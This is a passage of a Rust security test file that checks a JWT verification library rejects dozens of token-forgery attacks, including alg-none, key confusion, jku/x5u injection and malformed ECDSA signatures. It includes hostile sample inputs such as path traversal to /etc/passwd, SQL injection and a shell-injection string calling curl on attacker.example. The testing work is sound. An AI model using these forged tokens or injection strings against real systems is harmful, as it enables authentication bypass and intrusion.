//! One test (at least) per item of `shared/vectors/ATTACKS.md`, named after the item, each
//! building its malicious tokens here and running them end to end through [`verify_token`] (or,
//! for key material, through [`KeySet::from_jwks`] as the JWKS cache would).
//!
//! Items that are partly about HTTP or fetching (9, 28, 37, 39, 43) test the core's share and say
//! which part the gateway / edge layer owns.

mod common;

use std::sync::OnceLock;

use attestgate::jose::crypto::verify_native;
use attestgate::jose::Error;
use attestgate::jose::{
    b64, block_on_ready, jws, verify_dpop_proof, verify_token, Alg, ClaimRules, Claims, JwksLimits,
    Key, KeyRejection, KeySet, Limits, NativeVerifier, Profile,
};
use base64ct::Encoding;
use common::{read_json, s, sign};
use serde_json::{json, Value};
use sha2::{Digest, Sha256};

const NOW: i64 = 1_700_000_000;
const ISS: &str = "https://issuer.example";
const AUD: &str = "https://api.example";
const HS_SECRET: [u8; 32] = [0x55; 32];
/// P-256 group order n.
const P256_N: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff,
    0xbc, 0xe6, 0xfa, 0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];
/// Ed25519 group order L, little-endian.
const ED25519_L: [u8; 32] = [
    0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde, 0x14,
    0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x10,
];
/// The Ed25519 identity point, a small-order public key.
const ED25519_IDENTITY: &str = "AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA";

// ---- keys --------------------------------------------------------------------------------

fn es_issuer() -> p256::ecdsa::SigningKey {
    p256::ecdsa::SigningKey::from_slice(&[0x11; 32]).unwrap()
}

fn es_attacker() -> p256::ecdsa::SigningKey {
    p256::ecdsa::SigningKey::from_slice(&[0x22; 32]).unwrap()
}

fn ed_issuer() -> ed25519_dalek::SigningKey {
    ed25519_dalek::SigningKey::from_bytes(&[0x33; 32])
}

fn ed_attacker() -> ed25519_dalek::SigningKey {
    ed25519_dalek::SigningKey::from_bytes(&[0x44; 32])
}

/// The RFC 7515 A.2 RSA key (published private key, test use only).
fn rsa_vector() -> &'static Value {
    static V: OnceLock<Value> = OnceLock::new();
    V.get_or_init(|| {
        let doc = read_json("rfc/jose_rfc_vectors.json");
        doc["vectors"]
            .as_array()
            .unwrap()
            .iter()
            .find(|v| v["id"] == "rfc7515-A.2-RS256")
            .unwrap()["jwk_private_from_rfc"]
            .clone()
    })
}

fn rsa_issuer() -> &'static rsa::RsaPrivateKey {
    static K: OnceLock<rsa::RsaPrivateKey> = OnceLock::new();
    K.get_or_init(|| {
        let big = |name: &str| {
            rsa::BoxedUint::from_be_slice_vartime(&b64::decode(s(rsa_vector(), name)).unwrap())
        };
        rsa::RsaPrivateKey::from_p_q(big("p"), big("q"), big("e")).unwrap()
    })
}

fn ec_xy(sk: &p256::ecdsa::SigningKey) -> (Vec<u8>, Vec<u8>) {
    let point = sk.verifying_key().to_sec1_point(false);
    let bytes = point.as_bytes();
    (bytes[1..33].to_vec(), bytes[33..65].to_vec())
}

fn ec_jwk(sk: &p256::ecdsa::SigningKey, kid: &str) -> Value {
    let (x, y) = ec_xy(sk);
    json!({"kty":"EC","crv":"P-256","x":b64::encode(&x),"y":b64::encode(&y),"kid":kid})
}

fn ed_jwk(sk: &ed25519_dalek::SigningKey, kid: &str) -> Value {
    let x = sk.verifying_key().to_bytes();
    json!({"kty":"OKP","crv":"Ed25519","x":b64::encode(&x),"kid":kid})
}

fn rsa_jwk(kid: &str) -> Value {
    json!({"kty":"RSA","n":s(rsa_vector(),"n"),"e":s(rsa_vector(),"e"),"kid":kid})
}

fn with(mut v: Value, extra: Value) -> Value {
    if let (Some(m), Value::Object(e)) = (v.as_object_mut(), extra) {
        m.extend(e);
    }
    v
}

fn jwks(keys: Vec<Value>) -> KeySet {
    let doc = serde_json::to_vec(&json!({ "keys": keys })).unwrap();
    KeySet::from_jwks(&doc, &JwksLimits::default()).unwrap().0
}

/// The issuer's JWKS: one ES256, one EdDSA and one RS256 key.
fn issuer_keys() -> KeySet {
    jwks(vec![
        ec_jwk(&es_issuer(), "issuer-es256"),
        ed_jwk(&ed_issuer(), "issuer-ed25519"),
        rsa_jwk("issuer-rs256"),
    ])
}

fn hs_keys() -> KeySet {
    KeySet::from_hmac_secret(&HS_SECRET, None).unwrap()
}

// ---- tokens ------------------------------------------------------------------------------

enum Signer<'a> {
    Es(&'a p256::ecdsa::SigningKey),
    Ed(&'a ed25519_dalek::SigningKey),
    Rs(&'a rsa::RsaPrivateKey),
    Hs(&'a [u8]),
}

impl Signer<'_> {
    fn sign(&self, input: &[u8]) -> Vec<u8> {
        match self {
            Signer::Es(k) => sign::es256(k, input),
            Signer::Ed(k) => sign::ed25519(k, input),
            Signer::Rs(k) => k
                .sign(rsa::Pkcs1v15Sign::new::<Sha256>(), &Sha256::digest(input))
                .unwrap(),
            Signer::Hs(secret) => sign::hs256(secret, input),
        }
    }
}

/// `b64(header).b64(claims).b64(sig)` with the signature over the first two segments.
fn token_bytes(header: &[u8], claims: &[u8], signer: &Signer) -> String {
    let input = format!("{}.{}", b64::encode(header), b64::encode(claims));
    let sig = signer.sign(input.as_bytes());
    format!("{input}.{}", b64::encode(&sig))
}

fn token(header: &Value, claims: &Value, signer: &Signer) -> String {
    token_bytes(
        header.to_string().as_bytes(),
        claims.to_string().as_bytes(),
        signer,
    )
}

/// A token with raw header and claims text (for duplicates, escapes, odd numbers).
fn token_raw(header: &str, claims: &str, signer: &Signer) -> String {
    token_bytes(header.as_bytes(), claims.as_bytes(), signer)
}

fn header(alg: &str, kid: &str) -> Value {
    json!({"alg":alg,"typ":"at+jwt","kid":kid})
}

fn claims() -> Value {
    json!({"iss":ISS,"aud":AUD,"sub":"user-1","jti":"jti-1","iat":NOW-10,"exp":NOW+600,
           "scope":"orders:read"})
}

fn claims_with(extra: Value) -> Value {
    with(claims(), extra)
}

fn claims_without(name: &str) -> Value {
    let mut c = claims();
    c.as_object_mut().unwrap().remove(name);
    c
}

fn es_token(claims: &Value) -> String {
    token(
        &header("ES256", "issuer-es256"),
        claims,
        &Signer::Es(&es_issuer()),
    )
}

fn es_token_raw_claims(claims: &str) -> String {
    token_raw(
        r#"{"alg":"ES256","typ":"at+jwt","kid":"issuer-es256"}"#,
        claims,
        &Signer::Es(&es_issuer()),
    )
}

fn es_token_raw_header(header: &str) -> String {
    token_raw(header, &claims().to_string(), &Signer::Es(&es_issuer()))
}

fn profile() -> Profile {
    Profile {
        algs: vec![Alg::Es256, Alg::EdDsa, Alg::Rs256],
        token_types: vec!["at+jwt".into()],
        rules: ClaimRules {
            issuer: Some(ISS.into()),
            audiences: vec![AUD.into()],
            skew_secs: 60,
            max_lifetime_secs: Some(3600),
            required: vec![vec!["sub".into()]],
        },
        limits: Limits::default(),
    }
}

fn hs_profile() -> Profile {
    Profile {
        algs: vec![Alg::Hs256],
        ..profile()
    }
}

fn check_with(token: &str, profile: &Profile, keys: &KeySet) -> Result<Claims, Error> {
    block_on_ready(verify_token(token, profile, keys, &NativeVerifier, NOW))
}

fn check(token: &str) -> Result<Claims, Error> {
    check_with(token, &profile(), &issuer_keys())
}

fn err(token: &str) -> Error {
    match check(token) {
        Ok(c) => panic!("accepted: {token}\nclaims: {:?}", c.map()),
        Err(e) => e,
    }
}

fn split(token: &str) -> (&str, &str, &str) {
    let mut it = token.split('.');
    (it.next().unwrap(), it.next().unwrap(), it.next().unwrap())
}

fn with_signature(token: &str, sig: &[u8]) -> String {
    let (h, p, _) = split(token);
    format!("{h}.{p}.{}", b64::encode(sig))
}

fn signature_of(token: &str) -> Vec<u8> {
    b64::decode(split(token).2).unwrap()
}

// ---- positive controls -------------------------------------------------------------------

#[test]
fn ok_es256_eddsa_rs256_hs256() {
    let c = check(&es_token(&claims())).unwrap();
    assert_eq!(
        (c.sub(), c.jti(), c.exp()),
        (Some("user-1"), Some("jti-1"), NOW + 600)
    );
    assert_eq!(c.scopes(), ["orders:read"]);
    for alg in ["EdDSA", "Ed25519"] {
        let t = token(
            &header(alg, "issuer-ed25519"),
            &claims(),
            &Signer::Ed(&ed_issuer()),
        );
        assert!(check(&t).is_ok(), "{alg}");
    }
    let t = token(
        &header("RS256", "issuer-rs256"),
        &claims(),
        &Signer::Rs(rsa_issuer()),
    );
    assert!(check(&t).is_ok());
    let t = token(
        &json!({"alg":"HS256","typ":"at+jwt"}),
        &claims(),
        &Signer::Hs(&HS_SECRET),
    );
    assert!(check_with(&t, &hs_profile(), &hs_keys()).is_ok());
}

// ---- A. header, algorithm and key selection ----------------------------------------------

#[test]
fn a01_alg_none_and_case_variants() {
    let good = es_token(&claims());
    let (_, _, old_sig) = split(&good);
    for alg in ["none", "None", "NONE", "nOnE"] {
        let h = b64::encode(json!({"alg":alg,"typ":"at+jwt"}).to_string().as_bytes());
        let p = b64::encode(claims_with(json!({"sub":"admin"})).to_string().as_bytes());
        assert_eq!(err(&format!("{h}.{p}.")), Error::MalformedSegment, "{alg}");
        // With the trusted kid and an old signature left in place.
        let h = b64::encode(
            json!({"alg":alg,"typ":"at+jwt","kid":"issuer-es256"})
                .to_string()
                .as_bytes(),
        );
        assert_eq!(
            err(&format!("{h}.{p}.{old_sig}")),
            Error::AlgNotAllowed,
            "{alg}"
        );
    }
    // RFC 7515 A.5 (the RFC's own unsecured JWS), even with every algorithm allowed.
    let a5 = "eyJhbGciOiJub25lIn0.eyJpc3MiOiJqb2UiLA0KICJleHAiOjEzMDA4MTkzODAsDQogImh0dHA6Ly9leGFtcGxlLmNvbS9pc19yb290Ijp0cnVlfQ.";
    let all = Profile {
        algs: Alg::ALL.to_vec(),
        ..profile()
    };
    assert!(check_with(a5, &all, &issuer_keys()).is_err());
}

#[test]
fn a02_missing_nonstring_or_mangled_alg() {
    let t = es_token_raw_header(r#"{"typ":"at+jwt","kid":"issuer-es256"}"#);
    assert_eq!(err(&t), Error::AlgMissing);
    for alg in ["null", r#"["ES256"]"#, "256", r#"{"name":"ES256"}"#, "true"] {
        let t = es_token_raw_header(&format!(
            r#"{{"alg":{alg},"typ":"at+jwt","kid":"issuer-es256"}}"#
        ));
        assert_eq!(err(&t), Error::HeaderType, "{alg}");
    }
    for alg in [
        r#""es256""#,
        r#""ES256 ""#,
        r#""ES256\u0000""#,
        r#""ES256K""#,
        r#""""#,
    ] {
        let t = es_token_raw_header(&format!(
            r#"{{"alg":{alg},"typ":"at+jwt","kid":"issuer-es256"}}"#
        ));
        assert_eq!(err(&t), Error::AlgNotAllowed, "{alg}");
    }
}

/// Public-key bytes in every usual form, used as HMAC secrets.
fn public_key_forms() -> Vec<(&'static str, Vec<u8>, &'static str)> {
    let (x, y) = ec_xy(&es_issuer());
    let mut sec1 = vec![4u8];
    sec1.extend_from_slice(&x);
    sec1.extend_from_slice(&y);
    let mut der = common::hex("3059301306072a8648ce3d020106082a8648ce3d030107034200");
    der.extend_from_slice(&sec1);
    let b64std = base64ct::Base64::encode_string(&der);
    let mut pem = String::from("-----BEGIN PUBLIC KEY-----\n");
    for chunk in b64std.as_bytes().chunks(64) {
        pem.push_str(std::str::from_utf8(chunk).unwrap());
        pem.push('\n');
    }
    pem.push_str("-----END PUBLIC KEY-----");
    let jwk_text = ec_jwk(&es_issuer(), "issuer-es256").to_string();
    let n = b64::decode(s(rsa_vector(), "n")).unwrap();
    vec![
        (
            "pem+newline",
            format!("{pem}\n").into_bytes(),
            "issuer-es256",
        ),
        ("pem", pem.into_bytes(), "issuer-es256"),
        ("der-spki", der, "issuer-es256"),
        ("sec1", sec1, "issuer-es256"),
        ("raw-x", x.clone(), "issuer-es256"),
        ("jwk-json", jwk_text.into_bytes(), "issuer-es256"),
        ("b64u-x", b64::encode(&x).into_bytes(), "issuer-es256"),
        ("rsa-modulus", n, "issuer-rs256"),
        (
            "rsa-jwk-json",
            rsa_jwk("issuer-rs256").to_string().into_bytes(),
            "issuer-rs256",
        ),
    ]
}

#[test]
fn a03_hs256_keyed_with_public_key_bytes() {
    // Even a profile that (wrongly) allows HS256 next to the JWKS cannot reach HMAC with a
    // JWKS key: JWKS keys are never HS256 keys.
    let confused = Profile {
        algs: Alg::ALL.to_vec(),
        ..profile()
    };
    assert!(issuer_keys().keys().iter().all(|k| k.alg() != Alg::Hs256));
    let admin = claims_with(json!({"sub":"admin"}));
    for (form, secret, kid) in public_key_forms() {
        let signer = Signer::Hs(&secret);
        let t = token(&header("HS256", kid), &admin, &signer);
        assert_eq!(err(&t), Error::AlgNotAllowed, "{form}");
        assert_eq!(
            check_with(&t, &confused, &issuer_keys()).err(),
            Some(Error::KeyAlgMismatch),
            "{form}"
        );
        // Without a kid: no HS256 key exists at all.
        let t = token(&json!({"alg":"HS256","typ":"at+jwt"}), &admin, &signer);
        assert_eq!(err(&t), Error::AlgNotAllowed, "{form}");
        assert_eq!(
            check_with(&t, &confused, &issuer_keys()).err(),
            Some(Error::UnknownKey),
            "{form}"
        );
        // A real HS256 provider has its own secret: the forged MAC does not verify.
        assert_eq!(
            check_with(&t, &hs_profile(), &hs_keys()).err(),
            Some(Error::BadSignature),
            "{form}"
        );
    }
}

#[test]
fn a04_kid_names_key_of_another_type() {
    let cases = [
        ("EdDSA", "issuer-es256", Signer::Ed(&ed_attacker())),
        ("ES256", "issuer-ed25519", Signer::Es(&es_attacker())),
        ("RS256", "issuer-es256", Signer::Rs(rsa_issuer())),
    ];
    for (alg, kid, signer) in cases {
        let t = token(&header(alg, kid), &claims(), &signer);
        assert_eq!(err(&t), Error::KeyAlgMismatch, "{alg} with {kid}");
    }
    // No kid (policy): allowed only when exactly one key has the alg. The issuer's set has one
    // ES256 key, so a kid-less issuer token verifies; an attacker's does not.
    let no_kid = json!({"alg":"ES256","typ":"at+jwt"});
    assert!(check(&token(&no_kid, &claims(), &Signer::Es(&es_issuer()))).is_ok());
    assert_eq!(
        err(&token(&no_kid, &claims(), &Signer::Es(&es_attacker()))),
        Error::BadSignature
    );
    // With two ES256 keys a kid is required.
    let two = jwks(vec![
        ec_jwk(&es_issuer(), "issuer-es256"),
        ec_jwk(&es_attacker(), "next-es256"),
    ]);
    let t = token(&no_kid, &claims(), &Signer::Es(&es_issuer()));
    assert_eq!(
        check_with(&t, &profile(), &two).err(),
        Some(Error::KidMissing)
    );
}

#[test]
fn a05_embedded_jwk_header_injection() {
    let attacker = ec_jwk(&es_attacker(), "attacker");
    let admin = claims_with(json!({"sub":"admin"}));
    for kid in [None, Some("issuer-es256")] {
        let mut h = json!({"alg":"ES256","typ":"at+jwt","jwk":attacker});
        if let Some(kid) = kid {
            h["kid"] = json!(kid);
        }
        let t = token(&h, &admin, &Signer::Es(&es_attacker()));
        assert_eq!(err(&t), Error::UnsupportedHeader, "{kid:?}");
    }
    // ed25519-small-order-key-in-jwk-header: refused as an access token, and as a DPoP proof
    // the weak key is refused.
    let weak = json!({"kty":"OKP","crv":"Ed25519","x":ED25519_IDENTITY});
    let forged_sig = [b64::decode(ED25519_IDENTITY).unwrap(), vec![0; 32]].concat();
    let input = format!(
        "{}.{}",
        b64::encode(
            json!({"alg":"EdDSA","typ":"at+jwt","jwk":weak})
                .to_string()
                .as_bytes()
        ),
        b64::encode(admin.to_string().as_bytes())
    );
    assert_eq!(
        err(&format!("{input}.{}", b64::encode(&forged_sig))),
        Error::UnsupportedHeader
    );
    let input = format!(
        "{}.{}",
        b64::encode(
            json!({"alg":"EdDSA","typ":"dpop+jwt","jwk":weak})
                .to_string()
                .as_bytes()
        ),
        b64::encode(
            json!({"htm":"GET","htu":"https://api.example/","iat":NOW,"jti":"x"})
                .to_string()
                .as_bytes()
        )
    );
    let proof = format!("{input}.{}", b64::encode(&forged_sig));
    let r = block_on_ready(verify_dpop_proof(
        &proof,
        &[Alg::EdDsa],
        &Limits::default(),
        &NativeVerifier,
    ));
    assert_eq!(r.err(), Some(Error::DpopJwkUnusable));
}

#[test]
fn a06_jku_x5u_remote_key_injection() {
    // The core has no I/O at all: a token can never make it fetch anything. The header is
    // refused outright.
    for (member, url) in [
        ("jku", "https://attacker.example/.well-known/jwks.json"),
        ("jku", "http://169.254.169.254/latest/meta-data/"),
        ("jku", "https://issuer.example.attacker.example/jwks.json"),
        ("x5u", "https://attacker.example/cert.pem"),
    ] {
        let h = with(header("ES256", "issuer-es256"), json!({ member: url }));
        let t = token(&h, &claims(), &Signer::Es(&es_attacker()));
        assert_eq!(err(&t), Error::UnsupportedHeader, "{member} {url}");
    }
}

#[test]
fn a07_x5c_certificate_chain_injection() {
    let h = with(
        header("ES256", "issuer-es256"),
        json!({"x5c":["MIIBszCCAVmgAwIBAgIUJ0Jp"]}),
    );
    let t = token(&h, &claims(), &Signer::Es(&es_attacker()));
    assert_eq!(err(&t), Error::UnsupportedHeader);
    let h = json!({"alg":"ES256","typ":"at+jwt","x5c":["MIIBszCCAVmgAwIBAgIUJ0Jp"]});
    assert_eq!(
        err(&token(&h, &claims(), &Signer::Es(&es_attacker()))),
        Error::UnsupportedHeader
    );
}

#[test]
fn a08_kid_injection() {
    let string_kids = [
        "../../../../../../../dev/null",
        "../../../../etc/passwd",
        "/proc/self/environ",
        "x' OR '1'='1",
        "x' UNION SELECT 'AAAA' -- ",
        "issuer-es256\u{0}",
        "issuer-es256\r\nX-Injected: 1",
        "https://attacker.example/key.pem",
        "$(curl attacker.example)|;`id`",
        "",
        "ISSUER-ES256",
        "\u{456}ssuer-es256", // Cyrillic і
        "issuer-es256 ",
    ];
    for kid in string_kids {
        // Signed with the attacker's key, and with the issuer's own key: the lookup is by
        // exact bytes, so neither finds a key.
        for signer in [Signer::Es(&es_attacker()), Signer::Es(&es_issuer())] {
            let t = token(&header("ES256", kid), &claims(), &signer);
            let e = err(&t);
            assert_eq!(e, Error::UnknownKey, "{kid:?}");
            // Nothing of the token is in the error (it is a fixed code).
            assert_eq!(e.to_string(), "unknown_key");
        }
        // HS256 with an empty or guessable key: HS256 is not allowed for this provider, and a
        // configured-secret provider does not know the kid.
        for secret in [&b""[..], b"AAAA"] {
            let t = token(&header("HS256", kid), &claims(), &Signer::Hs(secret));
            assert_eq!(err(&t), Error::AlgNotAllowed, "{kid:?}");
            assert_eq!(
                check_with(&t, &hs_profile(), &hs_keys()).err(),
                Some(Error::UnknownKey),
                "{kid:?}"
            );
        }
    }
    for kid in [
        json!(5),
        json!(null),
        json!(["issuer-es256"]),
        json!({"$ne":""}),
    ] {
        let h = json!({"alg":"ES256","typ":"at+jwt","kid":kid});
        let t = token(&h, &claims(), &Signer::Es(&es_issuer()));
        assert_eq!(err(&t), Error::HeaderType, "{kid}");
    }
    // Over 256 bytes (but within the header cap), and 8 KiB (over the size caps).
    let t = token(
        &header("ES256", &"A".repeat(300)),
        &claims(),
        &Signer::Es(&es_issuer()),
    );
    assert_eq!(err(&t), Error::HeaderType);
    let t = token(
        &header("ES256", &"A".repeat(8192)),
        &claims(),
        &Signer::Es(&es_issuer()),
    );
    assert_eq!(err(&t), Error::TokenTooLarge);
}

#[test]
fn a09_unknown_kid_and_refetch_amplification() {
    // Core part: an unknown kid is reported as UnknownKey (the one signal the JWKS cache may
    // act on) and selection has no side effects. Refreshing at most once per cooldown and
    // single-flight is the gateway's JWKS cache (edge layer).
    let keys = issuer_keys();
    for i in 0..50 {
        let kid = format!("random-{i}-{}", i * 7919);
        let t = token(
            &header("ES256", &kid),
            &claims(),
            &Signer::Es(&es_attacker()),
        );
        assert_eq!(
            check_with(&t, &profile(), &keys).err(),
            Some(Error::UnknownKey)
        );
    }
    assert_eq!(keys.len(), 3);
}

#[test]
fn a10_crit_unknown_empty_or_malformed() {
    let variants = [
        json!({"crit":["http://example.com/UNDEFINED"],"http://example.com/UNDEFINED":true}),
        json!({"crit":[]}),
        json!({"crit":["exp"]}),
        json!({"crit":"b64"}),
        json!({"crit":["x-foo"]}),
        json!({"crit":null}),
    ];
    for extra in variants {
        let h = with(header("ES256", "issuer-es256"), extra.clone());
        let t = token(&h, &claims(), &Signer::Es(&es_issuer()));
        assert_eq!(err(&t), Error::CritUnsupported, "{extra}");
    }
    // RFC 7515 Appendix E.
    let e = "eyJhbGciOiJub25lIiwNCiAiY3JpdCI6WyJodHRwOi8vZXhhbXBsZS5jb20vVU5ERUZJTkVEIl0sDQogImh0dHA6Ly9leGFtcGxlLmNvbS9VTkRFRklORUQiOnRydWUNCn0.RkFJTA.";
    assert!(check(e).is_err());
}

#[test]
fn a11_b64_false_unencoded_payload() {
    let raw_claims = claims().to_string();
    // Attached, b64:false with crit, signed over header_b64 + "." + raw JSON.
    let h = b64::encode(
        json!({"alg":"ES256","typ":"at+jwt","kid":"issuer-es256","b64":false,"crit":["b64"]})
            .to_string()
            .as_bytes(),
    );
    let input = format!("{h}.{raw_claims}");
    let sig = Signer::Es(&es_issuer()).sign(input.as_bytes());
    assert!(check(&format!("{input}.{}", b64::encode(&sig))).is_err());
    // The same header with a base64url payload segment: refused on crit.
    let h2 = json!({"alg":"ES256","typ":"at+jwt","kid":"issuer-es256","b64":false,"crit":["b64"]});
    let t = token(&h2, &claims(), &Signer::Es(&es_issuer()));
    assert_eq!(err(&t), Error::CritUnsupported);
    // b64:false without crit.
    let h3 = with(header("ES256", "issuer-es256"), json!({"b64":false}));
    let t = token(&h3, &claims(), &Signer::Es(&es_issuer()));
    assert_eq!(err(&t), Error::B64Unsupported);
    // RFC 7797 4.2.
    let rfc = "eyJhbGciOiJIUzI1NiIsImI2NCI6ZmFsc2UsImNyaXQiOlsiYjY0Il19..A5dxf2s96_n5FLueVuW1Z_vh161FwXZC4YLPff6dmDY";
    assert!(check_with(rfc, &hs_profile(), &hs_keys()).is_err());
}

#[test]
fn a12_nested_jwt_cty() {
    let inner_h = b64::encode(br#"{"alg":"none"}"#);
    let inner_p = b64::encode(claims_with(json!({"sub":"admin"})).to_string().as_bytes());
    let inner = format!("{inner_h}.{inner_p}.");
    let h = with(header("ES256", "issuer-es256"), json!({"cty":"JWT"}));
    let outer = token_bytes(
        h.to_string().as_bytes(),
        inner.as_bytes(),
        &Signer::Es(&es_issuer()),
    );
    assert_eq!(err(&outer), Error::UnsupportedHeader);
    // Unsigned outer wrapping a valid inner token.
    let valid_inner = es_token(&claims());
    let outer_h = b64::encode(br#"{"alg":"none","typ":"at+jwt","cty":"JWT"}"#);
    let outer = format!("{outer_h}.{}.", b64::encode(valid_inner.as_bytes()));
    assert!(check(&outer).is_err());
}

#[test]
fn a13_jwe_and_wrong_segment_counts() {
    let jwe_h = b64::encode(br#"{"alg":"RSA-OAEP-256","enc":"A256GCM"}"#);
    let jwe = format!("{jwe_h}.AAAA.BBBB.CCCC.DDDD");
    assert_eq!(err(&jwe), Error::SegmentCount);
    let good = es_token(&claims());
    let (h, p, sig) = split(&good);
    for (bad, want) in [
        (format!("{good}.x.y"), Error::SegmentCount),
        (h.to_string(), Error::SegmentCount),
        (format!("{h}.{p}"), Error::SegmentCount),
        (format!("{h}.{p}.{sig}.x"), Error::SegmentCount),
        (format!("{good}."), Error::SegmentCount),
        (String::new(), Error::SegmentCount),
        ("..".to_string(), Error::MalformedSegment),
        (format!(".{p}.{sig}"), Error::MalformedSegment),
        (format!("{h}..{sig}"), Error::MalformedSegment),
        (format!("{h}.{p}."), Error::MalformedSegment),
    ] {
        assert_eq!(err(&bad), want, "{bad}");
    }
    // A three-segment token whose header says enc.
    let h = with(header("ES256", "issuer-es256"), json!({"enc":"A256GCM"}));
    assert_eq!(
        err(&token(&h, &claims(), &Signer::Es(&es_issuer()))),
        Error::UnsupportedHeader
    );
}

#[test]
fn a14_json_serialization_instead_of_compact() {
    let good = es_token(&claims());
    let (h, p, sig) = split(&good);
    let flattened = json!({"protected":h,"payload":p,"signature":sig}).to_string();
    assert!(check(&flattened).is_err());
    // CVE-2022-39227 shape: a compact token with a forged payload as the first key.
    let forged = b64::encode(claims_with(json!({"sub":"admin"})).to_string().as_bytes());
    let mixed = format!(
        r#"{{"{h}.{forged}.{sig}":"","protected":"{h}","payload":"{p}","signature":"{sig}"}}"#
    );
    assert!(check(&mixed).is_err());
}

#[test]
fn a15_duplicate_header_members() {
    for h in [
        r#"{"alg":"none","alg":"ES256","typ":"at+jwt","kid":"issuer-es256"}"#,
        r#"{"alg":"ES256","alg":"none","typ":"at+jwt","kid":"issuer-es256"}"#,
        r#"{"alg":"ES256","\u0061lg":"HS256","typ":"at+jwt","kid":"issuer-es256"}"#,
        r#"{"alg":"ES256","typ":"at+jwt","kid":"issuer-es256","kid":"other"}"#,
        r#"{"alg":"ES256","typ":"JWT","typ":"at+jwt","kid":"issuer-es256"}"#,
    ] {
        assert_eq!(err(&es_token_raw_header(h)), Error::DuplicateMember, "{h}");
    }
}

#[test]
fn a16_duplicate_claims() {
    let base = format!(
        r#""iss":"{ISS}","sub":"user-1","iat":{},"exp":{}"#,
        NOW - 10,
        NOW + 600
    );
    for dup in [
        format!(r#"{{{base},"aud":"{AUD}","aud":"https://other.example"}}"#),
        format!(r#"{{{base},"aud":"{AUD}","sub":"admin"}}"#),
        format!(r#"{{{base},"aud":"{AUD}","exp":{}}}"#, NOW + 99999),
        format!(r#"{{{base},"aud":"{AUD}","scope":"a","scope":"admin"}}"#),
        format!(r#"{{{base},"aud":"{AUD}","\u0069ss":"https://evil.example"}}"#),
        format!(r#"{{{base},"aud":"{AUD}","act":{{"sub":"a","sub":"b"}}}}"#),
    ] {
        assert_eq!(
            err(&es_token_raw_claims(&dup)),
            Error::DuplicateMember,
            "{dup}"
        );
    }
}

// ---- B. signature encoding and cryptography ----------------------------------------------

fn es_admin() -> String {
    es_token(&claims_with(json!({"sub":"admin"})))
}

#[test]
fn a17_psychic_signatures() {
    let t = es_admin();
    assert_eq!(err(&with_signature(&t, &[0; 64])), Error::BadSignature);
    assert_eq!(split(&with_signature(&t, &[0; 64])).2.len(), 86);
    let n_n = [P256_N, P256_N].concat();
    assert_eq!(err(&with_signature(&t, &n_n)), Error::BadSignature);
}

#[test]
fn a18_ecdsa_r_or_s_out_of_range() {
    let t = es_admin();
    let good = signature_of(&t);
    let (r, s_) = (&good[..32], &good[32..]);
    let mut one = [0u8; 32];
    one[31] = 1;
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("r=0", [&[0u8; 32][..], s_].concat()),
        ("s=0", [r, &[0u8; 32][..]].concat()),
        ("r=n", [&P256_N[..], s_].concat()),
        ("s=n", [r, &P256_N[..]].concat()),
        ("r=2^256-1", [&[0xffu8; 32][..], s_].concat()),
        ("r=s=1", [one, one].concat()),
    ];
    for (name, sig) in cases {
        assert_eq!(
            err(&with_signature(&t, &sig)),
            Error::BadSignature,
            "{name}"
        );
    }
    // s + n needs 33 bytes: the signature is 65 bytes long.
    let s_plus_n = add_be(s_, &P256_N);
    let sig = [r, &s_plus_n[..]].concat();
    assert_eq!(sig.len(), 65);
    assert_eq!(err(&with_signature(&t, &sig)), Error::SignatureLength);
}

/// Big-endian a + b, 33 bytes.
fn add_be(a: &[u8], b: &[u8; 32]) -> [u8; 33] {
    let mut out = [0u8; 33];
    let mut carry = 0u16;
    for i in (0..32).rev() {
        let v = u16::from(a[i]) + u16::from(b[i]) + carry;
        out[i + 1] = v as u8;
        carry = v >> 8;
    }
    out[0] = carry as u8;
    out
}

/// Big-endian a - b (a >= b).
fn sub_be(a: &[u8; 32], b: &[u8]) -> [u8; 32] {
    let mut out = [0u8; 32];
    let mut borrow = 0i16;
    for i in (0..32).rev() {
        let mut v = i16::from(a[i]) - i16::from(b[i]) - borrow;
        borrow = 0;
        if v < 0 {
            v += 256;
            borrow = 1;
        }
        out[i] = v as u8;
    }
    out
}

#[test]
fn a19_high_s_malleability_accepted() {
    // policy_accept: (r, n - s) verifies too. The two spellings are different strings with the
    // same (iss, jti): replay and revocation key on (iss, jti), never on the token text.
    let t = es_token(&claims());
    let sig = signature_of(&t);
    let twin_s = sub_be(&P256_N, &sig[32..]);
    let twin = with_signature(&t, &[&sig[..32], &twin_s[..]].concat());
    assert_ne!(twin, t);
    let (a, b) = (check(&t).unwrap(), check(&twin).unwrap());
    assert_eq!((a.iss(), a.jti()), (b.iss(), b.jti()));
    // The RFC 7515 A.3 example is high-S and verifies (see rfc_vectors.rs as well).
    let key = Key::es256(
        None,
        &b64::decode("f83OJ3D2xF1Bg8vub9tLe1gHMzV76e8Tus9uPHvRVEU").unwrap(),
        &b64::decode("x_FEzRu9m36HLN_tue659LNpXW6pCyStikYjKIWI5a0").unwrap(),
    )
    .unwrap();
    let a3 = "eyJhbGciOiJFUzI1NiJ9.eyJpc3MiOiJqb2UiLA0KICJleHAiOjEzMDA4MTkzODAsDQogImh0dHA6Ly9leGFtcGxlLmNvbS9pc19yb290Ijp0cnVlfQ.DtEhU3ljbEg8L38VWAfUAqOyKAM6-Xx-F4GawxaepmXFCgfTjDxw5djxLa8ISlSApmWQxfKTUJqPP3-Kg6NU1Q";
    let (input, sig) = a3.rsplit_once('.').unwrap();
    assert_eq!(
        verify_native(&key, input.as_bytes(), &b64::decode(sig).unwrap()),
        Ok(())
    );
}

/// ASN.1 DER `SEQUENCE { INTEGER r, INTEGER s }`.
fn der_signature(sig: &[u8]) -> Vec<u8> {
    let int = |v: &[u8]| {
        let v: Vec<u8> = v.iter().copied().skip_while(|b| *b == 0).collect();
        let mut out = vec![0x02];
        if v.first().is_some_and(|b| b & 0x80 != 0) {
            out.push(v.len() as u8 + 1);
            out.push(0);
        } else {
